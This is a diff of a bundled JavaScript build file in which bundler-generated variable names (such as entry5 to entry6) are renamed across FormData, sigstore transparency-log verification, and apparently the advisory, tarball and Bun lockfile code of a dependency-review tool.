@@ -4820,22 +4820,22 @@ var require_formdata = __commonJS({
         name3 = webidl.converters.USVString(name3, prefix, "name");
         value3 = isBlobLike(value3) ? webidl.converters.Blob(value3, prefix, "value", { strict: false }) : webidl.converters.USVString(value3, prefix, "value");
         filename = arguments.length === 3 ? webidl.converters.USVString(filename, prefix, "filename") : void 0;
-        const entry5 = makeEntry(name3, value3, filename);
-        this[kState].push(entry5);
+        const entry6 = makeEntry(name3, value3, filename);
+        this[kState].push(entry6);
       }
       delete(name3) {
         webidl.brandCheck(this, _FormData);
         const prefix = "FormData.delete";
         webidl.argumentLengthCheck(arguments, 1, prefix);
         name3 = webidl.converters.USVString(name3, prefix, "name");
-        this[kState] = this[kState].filter((entry5) => entry5.name !== name3);
+        this[kState] = this[kState].filter((entry6) => entry6.name !== name3);
       }
       get(name3) {
         webidl.brandCheck(this, _FormData);
         const prefix = "FormData.get";
         webidl.argumentLengthCheck(arguments, 1, prefix);
         name3 = webidl.converters.USVString(name3, prefix, "name");
-        const idx = this[kState].findIndex((entry5) => entry5.name === name3);
+        const idx = this[kState].findIndex((entry6) => entry6.name === name3);
         if (idx === -1) {
           return null;
         }
@@ -4846,14 +4846,14 @@ var require_formdata = __commonJS({
         const prefix = "FormData.getAll";
         webidl.argumentLengthCheck(arguments, 1, prefix);
         name3 = webidl.converters.USVString(name3, prefix, "name");
-        return this[kState].filter((entry5) => entry5.name === name3).map((entry5) => entry5.value);
+        return this[kState].filter((entry6) => entry6.name === name3).map((entry6) => entry6.value);
       }
       has(name3) {
         webidl.brandCheck(this, _FormData);
         const prefix = "FormData.has";
         webidl.argumentLengthCheck(arguments, 1, prefix);
         name3 = webidl.converters.USVString(name3, prefix, "name");
-        return this[kState].findIndex((entry5) => entry5.name === name3) !== -1;
+        return this[kState].findIndex((entry6) => entry6.name === name3) !== -1;
       }
       set(name3, value3, filename = void 0) {
         webidl.brandCheck(this, _FormData);
@@ -4867,16 +4867,16 @@ var require_formdata = __commonJS({
         name3 = webidl.converters.USVString(name3, prefix, "name");
         value3 = isBlobLike(value3) ? webidl.converters.Blob(value3, prefix, "name", { strict: false }) : webidl.converters.USVString(value3, prefix, "name");
         filename = arguments.length === 3 ? webidl.converters.USVString(filename, prefix, "name") : void 0;
-        const entry5 = makeEntry(name3, value3, filename);
-        const idx = this[kState].findIndex((entry6) => entry6.name === name3);
+        const entry6 = makeEntry(name3, value3, filename);
+        const idx = this[kState].findIndex((entry7) => entry7.name === name3);
         if (idx !== -1) {
           this[kState] = [
             ...this[kState].slice(0, idx),
-            entry5,
-            ...this[kState].slice(idx + 1).filter((entry6) => entry6.name !== name3)
+            entry6,
+            ...this[kState].slice(idx + 1).filter((entry7) => entry7.name !== name3)
           ];
         } else {
-          this[kState].push(entry5);
+          this[kState].push(entry6);
         }
       }
       [nodeUtil.inspect.custom](depth, options) {
@@ -8773,16 +8773,16 @@ var require_env_http_proxy_agent = __commonJS({
           return false;
         }
         for (let i = 0; i < this.#noProxyEntries.length; i++) {
-          const entry5 = this.#noProxyEntries[i];
-          if (entry5.port && entry5.port !== port) {
+          const entry6 = this.#noProxyEntries[i];
+          if (entry6.port && entry6.port !== port) {
             continue;
           }
-          if (!/^[.*]/.test(entry5.hostname)) {
-            if (hostname === entry5.hostname) {
+          if (!/^[.*]/.test(entry6.hostname)) {
+            if (hostname === entry6.hostname) {
               return false;
             }
           } else {
-            if (hostname.endsWith(entry5.hostname.replace(/^\*/, ""))) {
+            if (hostname.endsWith(entry6.hostname.replace(/^\*/, ""))) {
               return false;
             }
           }
@@ -8794,13 +8794,13 @@ var require_env_http_proxy_agent = __commonJS({
         const noProxySplit = noProxyValue.split(/[,\s]/);
         const noProxyEntries = [];
         for (let i = 0; i < noProxySplit.length; i++) {
-          const entry5 = noProxySplit[i];
-          if (!entry5) {
+          const entry6 = noProxySplit[i];
+          if (!entry6) {
             continue;
           }
-          const parsed2 = entry5.match(/^(.+):(\d+)$/);
+          const parsed2 = entry6.match(/^(.+):(\d+)$/);
           noProxyEntries.push({
-            hostname: (parsed2 ? parsed2[1] : entry5).toLowerCase(),
+            hostname: (parsed2 ? parsed2[1] : entry6).toLowerCase(),
             port: parsed2 ? Number.parseInt(parsed2[2], 10) : 0
           });
         }
@@ -30024,11 +30024,11 @@ var require_validate = __commonJS({
           invalidValues.push("verificationMaterial.tlogEntries");
         } else {
           if (b.verificationMaterial.tlogEntries.length > 0) {
-            b.verificationMaterial.tlogEntries.forEach((entry5, i) => {
-              if (entry5.logId === void 0) {
+            b.verificationMaterial.tlogEntries.forEach((entry6, i) => {
+              if (entry6.logId === void 0) {
                 invalidValues.push(`verificationMaterial.tlogEntries[${i}].logId`);
               }
-              if (entry5.kindVersion === void 0) {
+              if (entry6.kindVersion === void 0) {
                 invalidValues.push(`verificationMaterial.tlogEntries[${i}].kindVersion`);
               }
             });
@@ -30040,8 +30040,8 @@ var require_validate = __commonJS({
     function validateInclusionPromise(b) {
       const invalidValues = [];
       if (b.verificationMaterial && b.verificationMaterial.tlogEntries?.length > 0) {
-        b.verificationMaterial.tlogEntries.forEach((entry5, i) => {
-          if (entry5.inclusionPromise === void 0) {
+        b.verificationMaterial.tlogEntries.forEach((entry6, i) => {
+          if (entry6.inclusionPromise === void 0) {
             invalidValues.push(`verificationMaterial.tlogEntries[${i}].inclusionPromise`);
           }
         });
@@ -30051,11 +30051,11 @@ var require_validate = __commonJS({
     function validateInclusionProof(b) {
       const invalidValues = [];
       if (b.verificationMaterial && b.verificationMaterial.tlogEntries?.length > 0) {
-        b.verificationMaterial.tlogEntries.forEach((entry5, i) => {
-          if (entry5.inclusionProof === void 0) {
+        b.verificationMaterial.tlogEntries.forEach((entry6, i) => {
+          if (entry6.inclusionProof === void 0) {
             invalidValues.push(`verificationMaterial.tlogEntries[${i}].inclusionProof`);
           } else {
-            if (entry5.inclusionProof.checkpoint === void 0) {
+            if (entry6.inclusionProof.checkpoint === void 0) {
               invalidValues.push(`verificationMaterial.tlogEntries[${i}].inclusionProof.checkpoint`);
             }
           }
@@ -31801,11 +31801,11 @@ var require_bundle2 = __commonJS({
     function toSignedEntity(bundle, artifact) {
       const { tlogEntries, timestampVerificationData } = bundle.verificationMaterial;
       const timestamps = [];
-      for (const entry5 of tlogEntries) {
-        if (entry5.integratedTime && entry5.integratedTime !== "0") {
+      for (const entry6 of tlogEntries) {
+        if (entry6.integratedTime && entry6.integratedTime !== "0") {
           timestamps.push({
             $case: "transparency-log",
-            tlogEntry: entry5
+            tlogEntry: entry6
           });
         }
       }
@@ -32385,14 +32385,14 @@ var require_timestamp4 = __commonJS({
         timestamp: timestamp.signingTime
       };
     }
-    function getTLogTimestamp(entry5) {
-      if (!entry5.inclusionPromise) {
+    function getTLogTimestamp(entry6) {
+      if (!entry6.inclusionPromise) {
         return void 0;
       }
       return {
         type: "transparency-log",
-        logID: entry5.logId.keyId,
-        timestamp: new Date(Number(entry5.integratedTime) * 1e3)
+        logID: entry6.logId.keyId,
+        timestamp: new Date(Number(entry6.integratedTime) * 1e3)
       };
     }
   }
@@ -32888,8 +32888,8 @@ var require_checkpoint = __commonJS({
     var error_1 = require_error4();
     var CHECKPOINT_SEPARATOR = "\n\n";
     var SIGNATURE_REGEX = /\u2014 (\S+) (\S+)\n/g;
-    function verifyCheckpoint(entry5, tlogs) {
-      const inclusionProof = entry5.inclusionProof;
+    function verifyCheckpoint(entry6, tlogs) {
+      const inclusionProof = entry6.inclusionProof;
       const signedNote = SignedNote.fromString(inclusionProof.checkpoint.envelope);
       const checkpoint = LogCheckpoint.fromString(signedNote.note);
       if (!verifySignedNote(signedNote, tlogs)) {
@@ -32996,8 +32996,8 @@ var require_merkle = __commonJS({
     var error_1 = require_error4();
     var RFC6962_LEAF_HASH_PREFIX = Buffer.from([0]);
     var RFC6962_NODE_HASH_PREFIX = Buffer.from([1]);
-    function verifyMerkleInclusion(entry5, checkpoint) {
-      const inclusionProof = entry5.inclusionProof;
+    function verifyMerkleInclusion(entry6, checkpoint) {
+      const inclusionProof = entry6.inclusionProof;
       const logIndex = BigInt(inclusionProof.logIndex);
       const treeSize = BigInt(checkpoint.logSize);
       if (logIndex < 0n || logIndex >= treeSize) {
@@ -33015,7 +33015,7 @@ var require_merkle = __commonJS({
       }
       const innerHashes = inclusionProof.hashes.slice(0, inner);
       const borderHashes = inclusionProof.hashes.slice(inner);
-      const leafHash = hashLeaf(entry5.canonicalizedBody);
+      const leafHash = hashLeaf(entry6.canonicalizedBody);
       const calculatedHash = chainBorderRight(chainInner(leafHash, innerHashes, logIndex), borderHashes);
       if (!core_1.crypto.bufferEqual(calculatedHash, checkpoint.logHash)) {
         throw new error_1.VerificationError({
@@ -33071,15 +33071,15 @@ var require_set2 = __commonJS({
     var core_1 = require_dist4();
     var error_1 = require_error4();
     var trust_1 = require_trust();
-    function verifyTLogSET(entry5, tlogs) {
+    function verifyTLogSET(entry6, tlogs) {
       const validTLogs = (0, trust_1.filterTLogAuthorities)(tlogs, {
-        logID: entry5.logId.keyId,
-        targetDate: new Date(Number(entry5.integratedTime) * 1e3)
+        logID: entry6.logId.keyId,
+        targetDate: new Date(Number(entry6.integratedTime) * 1e3)
       });
       const verified = validTLogs.some((tlog) => {
-        const payload = toVerificationPayload(entry5);
+        const payload = toVerificationPayload(entry6);
         const data = Buffer.from(core_1.json.canonicalize(payload), "utf8");
-        const signature = entry5.inclusionPromise.signedEntryTimestamp;
+        const signature = entry6.inclusionPromise.signedEntryTimestamp;
         return core_1.crypto.verify(data, tlog.publicKey, signature);
       });
       if (!verified) {
@@ -33089,8 +33089,8 @@ var require_set2 = __commonJS({
         });
       }
     }
-    function toVerificationPayload(entry5) {
-      const { integratedTime, logIndex, logId, canonicalizedBody } = entry5;
+    function toVerificationPayload(entry6) {
+      const { integratedTime, logIndex, logId, canonicalizedBody } = entry6;
       return {
         body: canonicalizedBody.toString("base64"),
         integratedTime: Number(integratedTime),
@@ -33116,9 +33116,9 @@ var require_tlog = __commonJS({
     var checkpoint_1 = require_checkpoint();
     var merkle_1 = require_merkle();
     var set_1 = require_set2();
-    function verifyTLogBody(entry5, sigContent) {
-      const { kind, version: version4 } = entry5.kindVersion;
-      const body = JSON.parse(entry5.canonicalizedBody.toString("utf8"));
+    function verifyTLogBody(entry6, sigContent) {
+      const { kind, version: version4 } = entry6.kindVersion;
+      const body = JSON.parse(entry6.canonicalizedBody.toString("utf8"));
       if (kind !== body.kind || version4 !== body.apiVersion) {
         throw new error_1.VerificationError({
           code: "TLOG_BODY_ERROR",
@@ -33150,15 +33150,15 @@ var require_tlog = __commonJS({
           });
       }
     }
-    function verifyTLogInclusion(entry5, tlogAuthorities) {
+    function verifyTLogInclusion(entry6, tlogAuthorities) {
       let inclusionVerified = false;
-      if (isTLogEntryWithInclusionPromise(entry5)) {
-        (0, set_1.verifyTLogSET)(entry5, tlogAuthorities);
+      if (isTLogEntryWithInclusionPromise(entry6)) {
+        (0, set_1.verifyTLogSET)(entry6, tlogAuthorities);
         inclusionVerified = true;
       }
-      if (isTLogEntryWithInclusionProof(entry5)) {
-        const checkpoint = (0, checkpoint_1.verifyCheckpoint)(entry5, tlogAuthorities);
-        (0, merkle_1.verifyMerkleInclusion)(entry5, checkpoint);
+      if (isTLogEntryWithInclusionProof(entry6)) {
+        const checkpoint = (0, checkpoint_1.verifyCheckpoint)(entry6, tlogAuthorities);
+        (0, merkle_1.verifyMerkleInclusion)(entry6, checkpoint);
         inclusionVerified = true;
       }
       if (!inclusionVerified) {
@@ -33169,11 +33169,11 @@ var require_tlog = __commonJS({
       }
       return;
     }
-    function isTLogEntryWithInclusionPromise(entry5) {
-      return entry5.inclusionPromise !== void 0;
+    function isTLogEntryWithInclusionPromise(entry6) {
+      return entry6.inclusionPromise !== void 0;
     }
-    function isTLogEntryWithInclusionProof(entry5) {
-      return entry5.inclusionProof !== void 0;
+    function isTLogEntryWithInclusionProof(entry6) {
+      return entry6.inclusionProof !== void 0;
     }
   }
 });
@@ -33271,10 +33271,10 @@ var require_verifier2 = __commonJS({
       // Checks that the tlog entries are valid for the supplied content
       verifyTLogs({ signature: content, tlogEntries }) {
         let tlogCount = 0;
-        tlogEntries.forEach((entry5) => {
+        tlogEntries.forEach((entry6) => {
           tlogCount++;
-          (0, tlog_1.verifyTLogInclusion)(entry5, this.trustMaterial.tlogs);
-          (0, tlog_1.verifyTLogBody)(entry5, content);
+          (0, tlog_1.verifyTLogInclusion)(entry6, this.trustMaterial.tlogs);
+          (0, tlog_1.verifyTLogBody)(entry6, content);
         });
         if (tlogCount < this.options.tlogThreshold) {
           throw new error_1.VerificationError({
@@ -33832,7 +33832,7 @@ var githubAdvisories = (http, api) => {
       const half = Math.ceil(releases.length / 2);
       return joined(await Promise.all([releases.slice(0, half), releases.slice(half)].map(askFor)));
     }
-    return known(entries2.flatMap((entry5) => entry5 ?? []));
+    return known(entries2.flatMap((entry6) => entry6 ?? []));
   };
   return {
     id: "github",
@@ -34500,7 +34500,7 @@ var openGitSource = async (request) => {
       listing.set(side, found);
       return found;
     },
-    read: (entries2) => readBlobs(repository2, [...new Set(entries2.map((entry5) => entry5.id))])
+    read: (entries2) => readBlobs(repository2, [...new Set(entries2.map((entry6) => entry6.id))])
   };
 };
 var commitOf = async (git, revision, repository2) => {
@@ -35219,8 +35219,8 @@ var parseAdvisories = (text3, asked) => {
     if (list2 === void 0) continue;
     if (!Array.isArray(list2))
       return unknown("malformed", "The registry's answer about advisories is not a list by package.");
-    for (const entry5 of list2) {
-      const advisory = advisoryOf(entry5);
+    for (const entry6 of list2) {
+      const advisory = advisoryOf(entry6);
       if (advisory === void 0)
         return unknown("malformed", "The registry names an advisory without its id, title or versions.");
       for (const version4 of versions2) {
@@ -35237,12 +35237,12 @@ var isAbout2 = ({ range }, version4) => import_semver4.default.validRange(range)
   true
 ) : import_semver4.default.satisfies(version4, range, { includePrerelease: true });
 var severities3 = ["low", "moderate", "high", "critical"];
-var advisoryOf = (entry5) => {
-  if (!isObject3(entry5)) return void 0;
-  const { url: url2, title, severity: severity2, vulnerable_versions: range, cwe } = entry5;
+var advisoryOf = (entry6) => {
+  if (!isObject3(entry6)) return void 0;
+  const { url: url2, title, severity: severity2, vulnerable_versions: range, cwe } = entry6;
   if (typeof title !== "string" || typeof range !== "string") return void 0;
   const address = typeof url2 === "string" ? url2 : void 0;
-  const id = /GHSA(?:-[23456789cfghjmpqrvwx]{4}){3}/.exec(address ?? "")?.[0] ?? textOf3(entry5["id"]) ?? address;
+  const id = /GHSA(?:-[23456789cfghjmpqrvwx]{4}){3}/.exec(address ?? "")?.[0] ?? textOf3(entry6["id"]) ?? address;
   if (id === void 0) return void 0;
   return {
     id,
@@ -35439,34 +35439,34 @@ var createLayout = (limits, notes) => {
   };
   return {
     files,
-    add: (entry5, bytes2) => {
-      if (entry5.path.length > limits.maxPathLength)
+    add: (entry6, bytes2) => {
+      if (entry6.path.length > limits.maxPathLength)
         return unknown(
           "unsupported",
           `The archive holds a path of more than ${limits.maxPathLength} characters.`
         );
-      if (entry5.type !== "file") {
-        if (entry5.type === "link" || entry5.type === "device") notes.note(entry5.type, entry5.path);
-        else if (entry5.type !== "folder") notes.note("unknown-entry", entry5.path);
+      if (entry6.type !== "file") {
+        if (entry6.type === "link" || entry6.type === "device") notes.note(entry6.type, entry6.path);
+        else if (entry6.type !== "folder") notes.note("unknown-entry", entry6.path);
         return void 0;
       }
       if (bytes2.length > limits.maxFileBytes)
         return unknown("unsupported", `The archive holds a file of more than ${limits.maxFileBytes} bytes.`);
-      const written = renamed(entry5.path, ignoreFiles);
+      const written = renamed(entry6.path, ignoreFiles);
       if (written === void 0) return void 0;
       const first3 = written.slice(0, Math.max(0, written.indexOf("/")));
       root2 ??= first3;
-      if (first3 !== root2) notes.note("several-roots", entry5.path);
+      if (first3 !== root2) notes.note("several-roots", entry6.path);
       const path = placeOf(written, notes);
-      if (path === void 0 || entry5.linkpath !== void 0 && leadsOut(path, entry5.linkpath))
+      if (path === void 0 || entry6.linkpath !== void 0 && leadsOut(path, entry6.linkpath))
         return void 0;
       if (!claim(path)) {
         notes.note("file-over-folder", path);
         return void 0;
       }
-      if ((entry5.mode & 3072) !== 0) notes.note("setuid", path);
+      if ((entry6.mode & 3072) !== 0) notes.note("setuid", path);
       if (files.has(path)) notes.note("duplicate", path);
-      files.set(path, { path, bytes: bytes2, executable: (entry5.mode & 73) !== 0 });
+      files.set(path, { path, bytes: bytes2, executable: (entry6.mode & 73) !== 0 });
       return files.size > limits.maxFiles || folders.size > limits.maxFiles ? unknown("unsupported", `The archive holds more than ${limits.maxFiles} files or folders.`) : void 0;
     }
   };
@@ -35696,32 +35696,32 @@ var untar = (tar, limits, notes, take3) => {
       notes.note(header2.odd, `at byte ${at3 - blockSize}`);
       continue;
     }
-    const { entry: entry5 } = header2;
-    for (const kind of entry5.odd) notes.note(kind, entry5.path);
-    const told2 = tellsOfNext(entry5.type) ? global2.size ?? local.size ?? entry5.size : entry5.size;
-    if (tellsOfNext(entry5.type) && told2 === 0) {
-      if (entry5.size > 0) notes.note("extended-header", entry5.path);
+    const { entry: entry6 } = header2;
+    for (const kind of entry6.odd) notes.note(kind, entry6.path);
+    const told2 = tellsOfNext(entry6.type) ? global2.size ?? local.size ?? entry6.size : entry6.size;
+    if (tellsOfNext(entry6.type) && told2 === 0) {
+      if (entry6.size > 0) notes.note("extended-header", entry6.path);
       continue;
     }
-    const end = at3 + blockSize * Math.ceil(entry5.size / blockSize);
+    const end = at3 + blockSize * Math.ceil(entry6.size / blockSize);
     if (!(end <= tar.length)) {
-      notes.note("damaged", entry5.path);
+      notes.note("damaged", entry6.path);
       return unknown("malformed", "The archive ends in the middle of a file.");
     }
-    const content = tar.subarray(at3, at3 + entry5.size);
+    const content = tar.subarray(at3, at3 + entry6.size);
     at3 = end;
-    if (!tellsOfNext(entry5.type)) {
+    if (!tellsOfNext(entry6.type)) {
       local = noOverrides;
-      const stop = take3(entry5, content);
+      const stop = take3(entry6, content);
       if (stop !== void 0) return stop;
       continue;
     }
     headerBytes += content.length;
     if (headerBytes > limits.maxHeaderBytes)
       return unknown("unsupported", `The archive holds more than ${limits.maxHeaderBytes} bytes of headers.`);
-    if (told2 > maxTextSize) notes.note("extended-header", entry5.path);
-    else if (entry5.type === "global") global2 = readPax(content.toString(), global2, true, notes);
-    else local = override(entry5.type, content.toString(), local, notes);
+    if (told2 > maxTextSize) notes.note("extended-header", entry6.path);
+    else if (entry6.type === "global") global2 = readPax(content.toString(), global2, true, notes);
+    else local = override(entry6.type, content.toString(), local, notes);
   }
   if (hasData(tar.subarray(at3))) notes.note("data-after-end", `at byte ${at3}`);
   return void 0;
@@ -36858,18 +36858,18 @@ var together = (a, b) => ({
 
 // src/origins.ts
 var noOrigins = { usual: () => /* @__PURE__ */ new Set(), ofScope: () => /* @__PURE__ */ new Set() };
-var originOf = (address, pathOf3) => {
-  if (pathOf3(address) !== void 0) return "registry";
+var originOf = (address, pathOf4) => {
+  if (pathOf4(address) !== void 0) return "registry";
   if (!URL.canParse(address)) return "nowhere";
   const { origin: origin2, protocol } = new URL(address);
   return origin2 === "null" ? protocol : origin2;
 };
-var originsOf = (locked2, pathOf3) => {
+var originsOf = (locked2, pathOf4) => {
   const byScope = /* @__PURE__ */ new Map();
   const all = /* @__PURE__ */ new Set();
   for (const { name: name3, resolution } of locked2) {
     if (resolution.kind !== "registry" || resolution.resolved === void 0) continue;
-    const origin2 = originOf(resolution.resolved, pathOf3);
+    const origin2 = originOf(resolution.resolved, pathOf4);
     const scope = scopeOf(name3);
     const known2 = byScope.get(scope);
     if (known2 === void 0) byScope.set(scope, /* @__PURE__ */ new Set([origin2]));
@@ -36885,7 +36885,7 @@ var scopeOf = (name3) => name3.startsWith("@") ? name3.slice(0, name3.indexOf("/
 
 // src/facts/address.ts
 var addressOf2 = (change, registry, origins, release2) => {
-  const pathOf3 = (address) => registry.pathOf(address);
+  const pathOf4 = (address) => registry.pathOf(address);
   const { name: name3, version: version4, resolution } = change.after;
   if (resolution.kind !== "registry" && resolution.kind !== "tarball" || resolution.resolved === void 0)
     return void 0;
@@ -36895,12 +36895,12 @@ var addressOf2 = (change, registry, origins, release2) => {
   const file = name3.slice(name3.indexOf("/") + 1);
   return {
     url: url2,
-    origin: originOf(url2, pathOf3),
-    path: pathOf3(url2),
-    expectedPath: (release2?.tarball === void 0 ? void 0 : pathOf3(release2.tarball)) ?? `${name3}/-/${file}-${version4}.tgz`,
+    origin: originOf(url2, pathOf4),
+    path: pathOf4(url2),
+    expectedPath: (release2?.tarball === void 0 ? void 0 : pathOf4(release2.tarball)) ?? `${name3}/-/${file}-${version4}.tgz`,
     originsAtBase: origins.usual(name3),
     scopeOriginsAtBase: origins.ofScope(name3),
-    originBefore: was === void 0 ? void 0 : originOf(was, pathOf3)
+    originBefore: was === void 0 ? void 0 : originOf(was, pathOf4)
   };
 };
 var withoutHash = (address) => address.replace(/#.*$/s, "");
@@ -46556,7 +46556,7 @@ var largestPage = 8 * 1024 * 1024;
 // src/code/reach.ts
 var reachOf2 = (files, entries2) => {
   const reached = /* @__PURE__ */ new Set();
-  const open = entries2.flatMap((entry5) => resolveFile(files, "", entry5) ?? []);
+  const open = entries2.flatMap((entry6) => resolveFile(files, "", entry6) ?? []);
   for (let path = open.pop(); path !== void 0 && reached.size < mostFiles; path = open.pop()) {
     if (reached.has(path)) continue;
     reached.add(path);
@@ -47797,9 +47797,9 @@ var sizeOf = (value3) => {
     return Infinity;
   }
 };
-var hasPlainCheckpoint = (entry5) => {
-  if (!isObject5(entry5)) return false;
-  const proof = entry5["inclusionProof"] ?? void 0;
+var hasPlainCheckpoint = (entry6) => {
+  if (!isObject5(entry6)) return false;
+  const proof = entry6["inclusionProof"] ?? void 0;
   if (proof === void 0) return true;
   const checkpoint = isObject5(proof) ? proof["checkpoint"] : void 0;
   const text3 = isObject5(checkpoint) ? checkpoint["envelope"] : void 0;
@@ -48355,8 +48355,8 @@ var presenceWithout = (why) => why.reason === "not-found" ? known({ state: "no-s
 
 // src/hash-habits.ts
 var noHabits = () => void 0;
-var hashHabitsOf = (pairs, pathOf3) => {
-  const origin2 = (resolved) => resolved === void 0 ? "registry" : originOf(resolved, pathOf3);
+var hashHabitsOf = (pairs, pathOf4) => {
+  const origin2 = (resolved) => resolved === void 0 ? "registry" : originOf(resolved, pathOf4);
   const habits = new Map(
     pairs.flatMap(
       ({ path, before: before2, after }) => after === void 0 || hasOwnChecksums(after) ? [] : [[path, { before: countsOf(before2, origin2), after: countsOf(after, origin2) }]]
@@ -48479,7 +48479,7 @@ var fieldsOf3 = (file, object, path) => {
     }
   };
 };
-var isTextEntry = (entry5) => typeof entry5[1] === "string";
+var isTextEntry = (entry6) => typeof entry6[1] === "string";
 var nameOf3 = (path) => path.map((step3) => typeof step3 === "number" ? `item ${step3}` : JSON.stringify(step3)).join(" → ");
 var splitName = (text3) => {
   const at3 = text3.indexOf("@", 1);
@@ -48492,31 +48492,31 @@ var splitName = (text3) => {
 var isVersion = (text3) => /^\d+\.\d+\.\d+(?:-[\w.-]+)?(?:\+[\w.-]+)?$/.test(text3);
 
 // src/lockfiles/bun-entry.ts
-var readBunEntry = (file, place2, entry5, version4, workspaces) => {
+var readBunEntry = (file, place2, entry6, version4, workspaces) => {
   const wrong3 = (what) => file.fail(["packages", place2], `The entry "${place2}" ${what}.`);
-  if (!isList(entry5)) return wrong3("is not a list");
-  const [spec] = entry5;
+  if (!isList(entry6)) return wrong3("is not a list");
+  const [spec] = entry6;
   if (typeof spec !== "string") return wrong3("does not begin with a name and a version");
   const installedAs = lastNameOf(place2) ?? wrong3("is not a path of package names");
   const split = splitSpec(spec, installedAs) ?? wrong3(`names no package: ${JSON.stringify(spec)}`);
   const { name: name3, rest } = split;
-  const origin2 = originOf3(name3, rest, entry5) ?? wrong3(`has an origin that is not known: ${JSON.stringify(spec)}`);
+  const origin2 = originOf3(name3, rest, entry6) ?? wrong3(`has an origin that is not known: ${JSON.stringify(spec)}`);
   const { resolution } = origin2;
-  if (entry5.length < origin2.min || entry5.length > origin2.max) {
-    return wrong3(`has ${entry5.length} parts, not ${origin2.min} to ${origin2.max}`);
+  if (entry6.length < origin2.min || entry6.length > origin2.max) {
+    return wrong3(`has ${entry6.length} parts, not ${origin2.min} to ${origin2.max}`);
   }
-  for (let at3 = 1; at3 < entry5.length; at3++) {
-    if (at3 !== origin2.info && typeof entry5[at3] !== "string")
+  for (let at3 = 1; at3 < entry6.length; at3++) {
+    if (at3 !== origin2.info && typeof entry6[at3] !== "string")
       return wrong3(`has a part ${at3 + 1} that is not a text`);
   }
-  const info = entry5[origin2.info] ?? (origin2.min === 1 ? {} : void 0);
+  const info = entry6[origin2.info] ?? (origin2.min === 1 ? {} : void 0);
   if (!isObject6(info)) return wrong3("has no object with its dependencies");
   const bad = badField(info);
   if (bad !== void 0) return wrong3(`has a field "${bad}" of the wrong kind`);
   const workspace = resolution.kind === "workspace" ? workspaces.get(resolution.path) : void 0;
   if (resolution.kind === "workspace") {
     if (workspace === void 0) return wrong3("names no workspace of the file");
-    if (version4 > 0 && entry5.length > 1 && rest !== "root:")
+    if (version4 > 0 && entry6.length > 1 && rest !== "root:")
       return wrong3("is a workspace with more than its path");
   }
   const found = {
@@ -48557,10 +48557,10 @@ var splitSpec = (spec, installedAs) => {
   }
   return spec.startsWith("@root:") ? { name: installedAs, rest: spec.slice(1) } : splitName(spec);
 };
-var originOf3 = (name3, rest, entry5) => {
+var originOf3 = (name3, rest, entry6) => {
   if (isVersion(rest)) {
-    const resolved = textOf5(entry5[1]);
-    const integrity = textOf5(entry5[3]);
+    const resolved = textOf5(entry6[1]);
+    const integrity = textOf5(entry6[3]);
     const resolution = resolved === void 0 || isRegistryAddress(resolved, name3, rest) ? { kind: "registry", resolved, integrity } : { kind: "tarball", resolved, integrity };
     return { resolution, version: rest, min: 4, max: 4, info: 2 };
   }
@@ -48571,10 +48571,10 @@ var originOf3 = (name3, rest, entry5) => {
     const hash = rest.indexOf("#");
     if (hash === -1) return void 0;
     const [repository2, commit] = [rest.slice(0, hash), rest.slice(hash + 1)];
-    return elsewhere({ kind: "git", repository: repository2, commit, integrity: textOf5(entry5[3]) }, 3, 4);
+    return elsewhere({ kind: "git", repository: repository2, commit, integrity: textOf5(entry6[3]) }, 3, 4);
   }
   if (/^https?:\/\//.test(rest)) {
-    return elsewhere({ kind: "tarball", resolved: rest, integrity: textOf5(entry5[2]) }, 2, 3);
+    return elsewhere({ kind: "tarball", resolved: rest, integrity: textOf5(entry6[2]) }, 2, 3);
   }
   if (/^[a-z][a-z\d+.-]+:/i.test(rest) || !/\.(?:tgz|tar\.gz)$/.test(rest)) return void 0;
   return elsewhere({ kind: "local", path: rest }, 2, 3);
@@ -48614,7 +48614,7 @@ var packageCollector = () => {
   const gathered = { found: /* @__PURE__ */ new Map(), aliases: /* @__PURE__ */ new Map() };
   return {
     add: (found) => take(gathered, packageFrom(found), found.installedAs),
-    take: (entry5, installedAs) => take(gathered, entry5, installedAs),
+    take: (entry6, installedAs) => take(gathered, entry6, installedAs),
     alias: (key, installedAs) => addAlias(gathered, key, installedAs),
     packages: () => packagesIn(gathered)
   };
@@ -48639,20 +48639,20 @@ var packageFrom = ({
   cpu
 });
 var none4 = [];
-var take = (gathered, entry5, installedAs) => {
+var take = (gathered, entry6, installedAs) => {
   const { found } = gathered;
-  const first3 = found.get(entry5.key);
-  const key = first3 === void 0 || sameOrigin(first3.resolution, entry5.resolution) ? entry5.key : `
-${JSON.stringify([entry5.name, entry5.version, entry5.resolution])}`;
-  const seen = key === entry5.key ? first3 : found.get(key);
-  if (seen === void 0) found.set(key, key === entry5.key ? entry5 : { ...entry5, key });
-  else if (seen !== entry5) takeRepeated(found, seen, entry5);
-  if (installedAs !== entry5.name) addAlias(gathered, key, installedAs);
+  const first3 = found.get(entry6.key);
+  const key = first3 === void 0 || sameOrigin(first3.resolution, entry6.resolution) ? entry6.key : `
+${JSON.stringify([entry6.name, entry6.version, entry6.resolution])}`;
+  const seen = key === entry6.key ? first3 : found.get(key);
+  if (seen === void 0) found.set(key, key === entry6.key ? entry6 : { ...entry6, key });
+  else if (seen !== entry6) takeRepeated(found, seen, entry6);
+  if (installedAs !== entry6.name) addAlias(gathered, key, installedAs);
   return key;
 };
-var takeRepeated = (found, seen, entry5) => {
-  const bundled = seen.bundled && entry5.bundled;
-  const hasInstallScript = entry5.hasInstallScript === true ? true : seen.hasInstallScript;
+var takeRepeated = (found, seen, entry6) => {
+  const bundled = seen.bundled && entry6.bundled;
+  const hasInstallScript = entry6.hasInstallScript === true ? true : seen.hasInstallScript;
   if (bundled !== seen.bundled || hasInstallScript !== seen.hasInstallScript) {
     found.set(seen.key, { ...seen, bundled, hasInstallScript });
   }
@@ -48735,8 +48735,8 @@ var readBun = (text3, context) => {
   const collect2 = packageCollector();
   const edges = edgeCollector();
   const places = /* @__PURE__ */ new Map();
-  for (const [place2, entry5] of Object.entries(top.object("packages") ?? {})) {
-    const { found, spec, info } = readBunEntry(file, place2, entry5, version4, workspaces);
+  for (const [place2, entry6] of Object.entries(top.object("packages") ?? {})) {
+    const { found, spec, info } = readBunEntry(file, place2, entry6, version4, workspaces);
     const base = collect2.add(found);
     const patch = patches.get(spec);
     if (patch === void 0) places.set(place2, { info, base, key: base });
@@ -48959,8 +48959,8 @@ var readBunBinaryEntry = (tables, row, bundled) => {
   const rest = form.rest(tables, at3 + 8);
   const integrity = integrityOf(tables, row);
   const info = {};
-  const entry5 = form.kind === "registry" ? [rest, tables.text(at3 + 8), info, integrity] : form.kind === "git" ? [rest, info, "", integrity] : [rest, info, integrity];
